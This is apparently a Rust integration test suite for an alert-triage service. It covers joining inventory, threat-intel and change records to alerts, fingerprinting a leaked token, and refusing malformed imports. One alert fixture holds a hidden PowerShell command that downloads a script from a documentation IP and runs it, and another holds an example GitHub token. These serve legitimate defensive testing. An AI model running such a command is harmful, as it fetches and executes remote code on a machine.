//! Enrichment over HTTP (contract section 12): inventory, intel and change imports joined to
//! alerts and cited; required evidence on proposals and approvals; fingerprinted tokens;
//! refused imports reported line by line with nothing kept.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::sync::Arc;

use async_trait::async_trait;
use serde_json::{Value, json};
use triage::llm::{Engine, EngineAnswer, EngineError, EngineRequest, Usage};
use triage::store::Role;

use common::TestApp;

const GH_TOKEN: &str = "ghp_EXAMPLEwx8lwwx4malgt1z1m0mhefsmqs3xu";

async fn post_text(t: &TestApp, path: &str, key: &str, body: &str) -> (u16, Value) {
    let r =
        t.http.post(format!("{}{path}", t.base)).bearer_auth(key).header("content-type", "application/x-ndjson").body(body.to_string()).send().await.unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

fn refs(v: &Value, pointer: &str) -> Vec<String> {
    v.pointer(pointer).and_then(Value::as_array).unwrap().iter().filter_map(|x| x["ref"].as_str().map(str::to_string)).collect()
}

const INVENTORY: &str = r#"{"entity": "host:WS-042", "owner": "payments-team", "criticality": "critical", "environment": "production", "exposure": "internal", "service": "payments"}
{"entity": "service_account:svc-deploy", "kind": "nhi", "owner": "jdoe", "scopes": ["repo:write", "packages:write"], "created_at": "2025-01-01T00:00:00Z", "last_used_at": "2025-10-01T00:00:00Z"}
{"entity": "user:jdoe", "kind": "human", "status": "departed"}
"#;

const INTEL: &str = "type,value,source,confidence,description\nipv4,198.51.100.23,acme-cert,high,\"Cobalt Strike team server, seen in March\"\ndomain,updates-cdn.example,acme-cert,medium,Phishing kit host\n";

const CHANGE: &str = r#"{"id": "chg-4711", "time": "2026-03-02T09:15:00Z", "entity": "host:WS-042", "kind": "deploy", "by": "payments-team", "summary": "Rolled out the billing agent, which runs a PowerShell bootstrap"}
"#;

fn powershell_alert() -> Value {
    json!({
        "id": "alrt-ps-1", "source": "sysmon", "time": "2026-03-02T10:15:00Z",
        "rule": {"id": "r-1", "name": "Encoded PowerShell spawned by Office", "severity": "high"},
        "entities": {"users": ["CORP\\jdoe"], "hosts": ["WS-042"], "service_accounts": ["svc-deploy"]},
        "asset": {"environment": "corporate", "criticality": "medium"},
        "fields": {
            "CommandLine": "powershell.exe -nop -w hidden -c \"iwr http://198.51.100.23/a.ps1 -UseBasicParsing | iex\"",
            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
        }
    })
}

#[tokio::test]
async fn inventory_intel_and_changes_are_joined_and_cited() {
    let t = common::spawn_app().await;
    let admin = t.key("admin", Role::Admin);
    let engine = t.key("case-engine", Role::CaseEngine);
    let analyst = t.key("analyst", Role::Analyst);

    let (s, body) = post_text(&t, "/v1/inventory", &engine, INVENTORY).await;
    assert_eq!((s, body["error"]["code"].as_str()), (403, Some("forbidden")));
    let (s, body) = post_text(&t, "/v1/inventory", &admin, INVENTORY).await;
    assert_eq!(s, 200, "{body}");
    assert_eq!(body["imported"], 3);
    let (s, body) = post_text(&t, "/v1/intel", &admin, INTEL).await;
    assert_eq!((s, body["imported"].as_u64()), (200, Some(2)), "{body}");

    // Before the change record exists.
    let (s, before) = t.post("/v1/recommend", &engine, &json!({"alerts": [powershell_alert()]})).await;
    assert_eq!(s, 200, "{before}");
    assert_eq!(before["status"], "ready", "{before}");

    let (s, body) = post_text(&t, "/v1/changes", &admin, CHANGE).await;
    assert_eq!((s, body["imported"].as_u64()), (200, Some(1)), "{body}");
    let (s, r) = t.post("/v1/recommend", &engine, &json!({"alerts": [powershell_alert()]})).await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["status"], "ready", "{r}");

    // Retrieved: the inventory records of the host and the service account, the intel on
    // the IP inside the command line, the owner's change an hour before.
    let retrieved = refs(&r, "/retrieved");
    let intel_ref = retrieved.iter().find(|x| x.starts_with("intel:csv-")).cloned().expect("an intel document");
    for want in ["inventory:host:WS-042", "inventory:service_account:svc-deploy", "change:chg-4711"] {
        assert!(retrieved.contains(&want.to_string()), "{want} not retrieved: {retrieved:?}");
    }
    assert!(!retrieved.iter().any(|x| x == "inventory:user:jdoe"), "the owner's record is context, not named by the alert");

    // Cited, with the facts quoted.
    let rec = &r["recommendation"];
    let evidence = rec["evidence"].as_array().unwrap();
    let quote_of = |r: &str| evidence.iter().find(|e| e["ref"] == r).map(|e| e["quote"].as_str().unwrap_or("").to_string());
    assert!(quote_of("inventory:host:WS-042").unwrap().contains("payments-team"), "{evidence:?}");
    let nhi = quote_of("inventory:service_account:svc-deploy").unwrap();
    for fact in ["never rotated", "unused for 152 days", "owner jdoe is departed"] {
        assert!(nhi.contains(fact), "`{fact}` not in `{nhi}`");
    }
    assert!(quote_of(&intel_ref).unwrap().contains("198.51.100.23"));
    assert!(quote_of("change:chg-4711").unwrap().contains("payments-team, the owner of host:WS-042"));

    // The stricter asset wins, and the disagreement is said; the owner's change lowers
    // confidence and is said.
    let uncertainty: Vec<&str> = rec["uncertainty"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(uncertainty.iter().any(|u| u.contains("change:chg-4711") && u.contains("confidence")), "{uncertainty:?}");
    assert!(uncertainty.iter().any(|u| u.contains("Inventory says host:WS-042 is production")), "{uncertainty:?}");
    let (c_before, c_after) = (before["recommendation"]["confidence"].as_f64().unwrap(), rec["confidence"].as_f64().unwrap());
    assert!(c_after < c_before, "confidence {c_after} not below {c_before}");
    // Critical production (from the inventory) raises the rule's high to critical.
    assert_eq!(rec["severity"], "critical");

    // The case passed through `enriched` on its way (contract section 11).
    let (_, case) = t.get(&format!("/v1/cases/{}", r["case_id"].as_str().unwrap()), &analyst).await;
    let states: Vec<&str> = case["history"].as_array().unwrap().iter().map(|h| h["to"].as_str().unwrap()).collect();
    assert_eq!(&states[..2], &["new", "enriched"], "{states:?}");

    // The cited documents can be read.
    for doc in ["inventory:host:WS-042", "change:chg-4711", intel_ref.as_str()] {
        let (s, d) = t.get(&format!("/v1/documents/{doc}"), &analyst).await;
        assert_eq!(s, 200, "{doc}: {d}");
        assert_eq!(d["ref"], doc);
    }
}

fn token_alert(id: &str, time: &str) -> Value {
    json!({
        "id": id, "source": "github-secret-scanning", "time": time,
        "rule": {"id": "r-18995", "name": "Personal access token found in public gist", "severity": "high"},
        "entities": {"users": ["llindqvist"], "tokens": [GH_TOKEN]},
        "asset": {"environment": "production", "criticality": "high", "owner": "devex"},
        "fields": {"secret_type": "github_personal_access_token", "secret": GH_TOKEN,
                   "location": {"type": "gist", "url": "https://gist.example.com/llindqvist/7ec8dbcf6e32a8baac9eb02f9461a638"},
                   "token_owner": "llindqvist", "scopes": ["repo", "read:org", "workflow"]}
    })
}

/// A model's answer to the leaked-token alert, written from what the model is sent: the
/// alert as redacted (the token is a placeholder) and its id. It proposes revocation, as a
/// model reading the runbook would; the baseline doesn't here, because the similar cases on
/// record were inactive tokens closed benign.
struct RevokesTheToken;

#[async_trait]
impl Engine for RevokesTheToken {
    fn name(&self) -> &'static str {
        "llm"
    }
    async fn propose(&self, req: &EngineRequest<'_>) -> Result<EngineAnswer, EngineError> {
        let alert = &req.alerts[0];
        let placeholder = alert.entities.tokens.first().expect("the token entity").clone();
        assert!(placeholder.starts_with("[REDACTED:"), "the engine was sent the secret: {placeholder}");
        let out = json!({
            "severity": "high", "confidence": 0.8,
            "hypothesis": "A personal access token with repo and workflow scope is public in a gist.",
            "attack": [{"technique_id": "T1552.001", "rationale": "credentials in a file others can read"}],
            "evidence": [{"ref": format!("alert:{}#rule.name", alert.id), "quote": "Personal access token found in public gist"}],
            "uncertainty": [],
            "proposed_actions": [
                {"action": "revoke_token", "target": format!("token:{placeholder}"), "rationale": "the token is public"},
                {"action": "notify_owner", "target": "user:llindqvist", "rationale": "the owner must rotate what used it"}
            ],
            "summary": "Leaked token; revoke it."
        });
        Ok(EngineAnswer { raw: out.to_string(), model: "scripted".into(), prompt_version: "test".into(), usage: Usage::default(), calls: 1 })
    }
}

#[tokio::test]
async fn a_revoke_token_proposal_lists_its_evidence_and_targets_a_stable_fingerprint() {
    let t = common::spawn_app_with(&[], Some(Arc::new(RevokesTheToken))).await;
    let admin = t.key("admin", Role::Admin);
    let engine = t.key("case-engine", Role::CaseEngine);
    let soar = t.key("soar", Role::Soar);
    let approver = t.key("approver", Role::Approver);

    let (s, body) = t.post("/v1/fingerprint", &engine, &json!({"secret": GH_TOKEN})).await;
    assert_eq!((s, body["error"]["code"].as_str()), (403, Some("forbidden")));
    let (s, body) = t.post("/v1/fingerprint", &soar, &json!({"secret": GH_TOKEN})).await;
    assert_eq!(s, 200, "{body}");
    let fp = body["fingerprint"].as_str().unwrap().to_string();
    assert!(fp.starts_with("fp_") && fp.len() == 19, "{fp}");

    // The token is on record by fingerprint, with owner, scopes and last use, no rollback.
    let inventory = format!(
        r#"{{"entity": "token:{fp}", "kind": "nhi", "owner": "llindqvist", "scopes": ["repo", "workflow"], "last_used_at": "2026-01-27T22:00:00Z", "last_rotated_at": "2025-12-01T00:00:00Z"}}"#
    );
    let (s, body) = post_text(&t, "/v1/inventory", &admin, &inventory).await;
    assert_eq!(s, 200, "{body}");

    let (s, r) = t.post("/v1/recommend", &engine, &json!({"alerts": [token_alert("ghss-1", "2026-01-28T02:13:24Z")]})).await;
    assert_eq!(s, 200, "{r}");
    assert!(!r.to_string().contains(GH_TOKEN), "the secret leaked into the response");
    let actions = r["recommendation"]["proposed_actions"].as_array().unwrap();
    let revoke = actions.iter().find(|a| a["action"] == "revoke_token").unwrap_or_else(|| panic!("no revoke_token in {actions:?}"));
    assert_eq!(revoke["target"], format!("token:{fp}"));
    let status: Vec<(String, bool, Value)> = revoke["evidence_status"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["item"].as_str().unwrap().to_string(), e["present"].as_bool().unwrap(), e["ref"].clone()))
        .collect();
    let inv_ref = json!(format!("inventory:token:{fp}"));
    assert_eq!(
        status,
        vec![
            ("token_owner".into(), true, inv_ref.clone()),
            ("token_scope".into(), true, inv_ref.clone()),
            ("token_recent_use".into(), true, inv_ref.clone()),
            ("detection_reason".into(), true, json!("alert:ghss-1#rule.name")),
            ("rollback_path".into(), false, Value::Null),
        ]
    );
    // Every other proposal carries its status too.
    assert!(actions.iter().all(|a| a["evidence_status"].is_array()), "{actions:?}");
    let uncertainty = r["recommendation"]["uncertainty"].to_string();
    assert!(uncertainty.contains("Missing before revoke_token") && uncertainty.contains("rollback path"), "{uncertainty}");

    // The approver sees it.
    let approval_id = revoke["approval_id"].as_str().unwrap();
    let (s, apr) = t.get(&format!("/v1/approvals/{approval_id}"), &approver).await;
    assert_eq!(s, 200, "{apr}");
    assert_eq!(apr["evidence_status"], revoke["evidence_status"]);

    // The same token in a later alert, in another request, gets the same target.
    let (s, later) = t.post("/v1/recommend", &engine, &json!({"alerts": [token_alert("ghss-2", "2026-01-29T08:00:00Z")]})).await;
    assert_eq!(s, 200, "{later}");
    let again = later["recommendation"]["proposed_actions"].as_array().unwrap().iter().find(|a| a["action"] == "revoke_token").cloned().unwrap();
    assert_eq!(again["target"], format!("token:{fp}"));
}

#[tokio::test]
async fn bad_import_files_are_refused_line_by_line_and_nothing_is_kept() {
    let t = common::spawn_app().await;
    let admin = t.key("admin", Role::Admin);
    let counts = |t: &TestApp| t.app.store.enrichment_counts().unwrap();

    // A good line first: it must not be kept when a later line is refused.
    let inventory = "{\"entity\": \"host:WS-1\", \"owner\": \"ops\"}\n{\"entity\": \"host:WS-2\", \"criticality\": \"extreme\"}\n{\"entity\": \"host:WS-3\", \"colour\": \"red\"}\n";
    let (s, body) = post_text(&t, "/v1/inventory", &admin, inventory).await;
    assert_eq!(s, 400, "{body}");
    assert_eq!(body["error"]["code"], "invalid_import");
    let lines: Vec<u64> = body["error"]["lines"].as_array().unwrap().iter().map(|l| l["line"].as_u64().unwrap()).collect();
    assert_eq!(lines, vec![2, 3]);
    assert!(body["error"]["lines"][1]["reason"].as_str().unwrap().contains("unknown field `colour`"));

    // Wrong CSV columns.
    let (s, body) =
        post_text(&t, "/v1/intel", &admin, "type,value,source,confidence,description\nipv4,198.51.100.1,acme,high,ok\nipv4,198.51.100.2,acme\n").await;
    assert_eq!((s, body["error"]["lines"][0]["line"].as_u64()), (400, Some(3)), "{body}");
    assert!(body["error"]["lines"][0]["reason"].as_str().unwrap().contains("3 columns"));

    // An invalid STIX pattern and a bad date.
    let stix = r#"{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "pattern": "[ipv4-addr:value = '198.51.100.9']", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"},
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--9e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "pattern": "[ipv4-addr:value = '198.51.100.10'", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"},
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--ae2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "pattern": "[domain-name:value = 'bad.example']", "pattern_type": "stix", "valid_from": "01/02/2026"}
]}"#;
    let (s, body) = post_text(&t, "/v1/intel", &admin, stix).await;
    assert_eq!(s, 400, "{body}");
    let lines = body["error"]["lines"].as_array().unwrap();
    assert_eq!(lines.iter().map(|l| l["line"].as_u64().unwrap()).collect::<Vec<_>>(), vec![3, 4]);
    assert!(lines[0]["reason"].as_str().unwrap().contains("invalid STIX pattern"));
    assert!(lines[1]["reason"].as_str().unwrap().contains("RFC 3339"));

    let (s, body) = post_text(&t, "/v1/changes", &admin, "{\"id\": \"c1\", \"time\": \"2026-03-02T09:00:00Z\", \"entity\": \"host:a\", \"kind\": \"deploy\", \"by\": \"x\", \"summary\": \"y\"}\n{\"id\": \"c2\", \"time\": \"tomorrow\", \"entity\": \"host:a\", \"kind\": \"deploy\", \"by\": \"x\", \"summary\": \"y\"}\n").await;
    assert_eq!((s, body["error"]["lines"][0]["line"].as_u64()), (400, Some(2)), "{body}");

    assert_eq!(counts(&t), (0, 0, 0), "a refused file left records behind");

    // The CLI: non-zero exit, every bad line named, nothing kept.
    let file = t.dir.path().join("bad-inventory.jsonl");
    std::fs::write(&file, inventory).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_triage"))
        .args(["--data-dir", t.dir.path().to_str().unwrap(), "inventory", "import", file.to_str().unwrap()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("line 2:") && stderr.contains("line 3:"), "{stderr}");
    assert_eq!(counts(&t), (0, 0, 0));

    // And a good file is taken whole.
    std::fs::write(&file, INVENTORY).unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_triage"))
        .args(["--data-dir", t.dir.path().to_str().unwrap(), "inventory", "import", file.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(counts(&t).0, 3);
}

#[tokio::test]
async fn intel_outside_its_validity_window_is_not_cited() {
    let t = common::spawn_app().await;
    let admin = t.key("admin", Role::Admin);
    let engine = t.key("case-engine", Role::CaseEngine);
    let stix = r#"{"type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d", "objects": [
  {"type": "identity", "spec_version": "2.1", "id": "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff", "name": "ACME CERT"},
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "created_by_ref": "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff",
   "name": "Old C2", "pattern": "[ipv4-addr:value = '198.51.100.23']", "pattern_type": "stix", "valid_from": "2025-01-01T00:00:00Z", "valid_until": "2025-06-01T00:00:00Z"},
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--9e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", "created_by_ref": "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff",
   "name": "Payload hash", "pattern": "[file:hashes.'SHA-256' = 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855']", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"}
]}"#;
    let (s, body) = post_text(&t, "/v1/intel", &admin, stix).await;
    assert_eq!((s, body["imported"].as_u64()), (200, Some(2)), "{body}");
    let mut alert = powershell_alert();
    alert["fields"]["Hashes"] = json!("SHA256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    let (s, r) = t.post("/v1/recommend", &engine, &json!({"alerts": [alert]})).await;
    assert_eq!(s, 200, "{r}");
    let retrieved = refs(&r, "/retrieved");
    assert!(retrieved.contains(&"intel:indicator--9e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f".to_string()), "{retrieved:?}");
    assert!(!retrieved.contains(&"intel:indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f".to_string()), "{retrieved:?}");
    assert!(r["recommendation"]["uncertainty"].to_string().contains("not in force"), "{}", r["recommendation"]["uncertainty"]);
}
